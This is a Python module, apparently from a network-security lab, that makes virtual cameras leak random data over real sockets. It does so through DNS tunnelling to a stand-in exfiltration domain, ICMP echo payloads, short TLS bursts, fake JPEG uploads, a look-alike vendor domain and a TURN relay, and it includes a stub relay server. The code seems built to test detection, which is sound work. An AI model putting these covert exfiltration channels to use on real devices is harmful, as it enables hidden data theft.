"""Virtual cameras that give data away, on real sockets: by name service, ping, in portions, by a relay, under a look-alike name, as pictures."""

from __future__ import annotations

import asyncio
import random
import socket
import struct
from collections.abc import Callable, Coroutine
from typing import Any

from netcam.lab.conversation import DESTINATIONS, bound, client_hello, opened, question, record, resolved
from netcam.lab.scenario import ROUTER_HOST, Device, Scenario

COOKIE = 0x2112A442
"""STUN's magic cookie (RFC 8489 section 5)."""
ALLOCATE, CHANNEL_BIND, SUCCESS = 0x0003, 0x0009, 0x0100
"""TURN's methods and the class of a good answer (RFC 8656 section 17)."""


async def by_names(scenario: Scenario, device: Device, link: str) -> None:
    """Forty bytes in each question, as iodine and dnscat2 do: the site's own resolver carries them out."""
    made = bound(socket.SOCK_DGRAM, link, scenario.address(device))
    router = str(scenario.net().network_address + ROUTER_HOST)
    loop = asyncio.get_running_loop()
    try:
        while True:
            name = f"{random.randbytes(25).hex()}.{random.randbytes(15).hex()}.t.exfil-example.net"
            await loop.sock_sendto(made, question(name, 16), (router, 53))
            await asyncio.sleep(0.1)
    finally:
        made.close()


async def by_ping(scenario: Scenario, device: Device, link: str) -> None:
    """Echo requests of 400 bytes (RFC 792), which the other end answers in kind."""
    made = bound(socket.SOCK_RAW, link, scenario.address(device), socket.IPPROTO_ICMP)
    loop = asyncio.get_running_loop()
    number = 0
    try:
        while True:
            number = (number + 1) & 0xFFFF
            body = struct.pack(">HH", 7, number) + random.randbytes(400)
            await loop.sock_sendto(made, struct.pack(">BBH", 8, 0, _checksum(b"\x08\0\0\0" + body)) + body, (DESTINATIONS["upload"], 0))
            await asyncio.sleep(0.1)
    finally:
        made.close()


def _checksum(message: bytes) -> int:
    """The Internet checksum (RFC 1071) of a message of even length."""
    total: int = sum(struct.unpack(f">{len(message) // 2}H", message))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


async def in_portions(scenario: Scenario, device: Device, link: str) -> None:
    """A connection for each 90 kB, none of which would be looked at."""
    while True:
        _, writer = await opened(link, scenario.address(device), DESTINATIONS["upload"], 443)
        writer.write(client_hello("") + b"".join(record(15_000) for _ in range(6)))
        await writer.drain()
        writer.close()
        await asyncio.sleep(0.4)


async def as_pictures(scenario: Scenario, device: Device, link: str) -> None:
    """A picture by plain HTTP every two seconds."""
    while True:
        _, writer = await opened(link, scenario.address(device), DESTINATIONS["upload"], 80)
        picture = b"\xff\xd8\xff\xe0" + random.randbytes(38_000)
        writer.write(
            b"POST /event HTTP/1.1\r\nHost: %b\r\nContent-Length: %d\r\n\r\n" % (DESTINATIONS["upload"].encode(), len(picture)) + picture
        )
        await writer.drain()
        writer.close()
        await asyncio.sleep(2)


async def as_the_maker(scenario: Scenario, device: Device, link: str) -> None:
    """Video to a name that only looks like the maker's cloud."""
    name = "eu.evilhik-connect.com"
    _, writer = await opened(link, scenario.address(device), await resolved(scenario, link, scenario.address(device), name), 443)
    writer.write(client_hello(name))
    while True:
        writer.write(record(16_000))
        await writer.drain()
        await asyncio.sleep(0.1)


async def by_relay(scenario: Scenario, device: Device, link: str) -> None:
    """An allocation at a TURN server, a channel, and video in it."""
    made = bound(socket.SOCK_DGRAM, link, scenario.address(device))
    loop = asyncio.get_running_loop()
    to = (DESTINATIONS["relay"], 3478)
    try:
        for method, attribute in (
            (ALLOCATE, struct.pack(">HHI", 0x0019, 4, 0x11000000)),
            (CHANNEL_BIND, struct.pack(">HHI", 0x000C, 4, 0x40000000)),
        ):
            await loop.sock_sendto(made, struct.pack(">HHI", method, len(attribute), COOKIE) + random.randbytes(12) + attribute, to)
            async with asyncio.timeout(2):
                await loop.sock_recv(made, 2048)
        while True:
            await loop.sock_sendto(made, struct.pack(">HH", 0x4000, 1000) + random.randbytes(1000), to)
            await asyncio.sleep(0.01)
    finally:
        made.close()


class Relay(asyncio.DatagramProtocol):
    """The lab's TURN server: every request succeeds, what comes in channels goes nowhere."""

    transport: asyncio.DatagramTransport

    def connection_made(self, transport: Any) -> None:
        """See asyncio."""
        self.transport = transport

    def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
        """See asyncio."""
        if len(data) >= 20 and data[0] < 0x40 and data[4:8] == struct.pack(">I", COOKIE):
            kind = struct.unpack(">H", data[:2])[0]
            self.transport.sendto(struct.pack(">HH", kind | SUCCESS, 0) + data[4:20], addr)


STORIES: dict[str, Callable[[Scenario, Device, str], Coroutine[Any, Any, None]]] = {
    "leak-by-names": by_names, "leak-by-ping": by_ping, "leak-in-portions": in_portions, "leak-as-pictures": as_pictures,
    "leak-as-the-maker": as_the_maker, "leak-by-relay": by_relay,
}  # fmt: skip
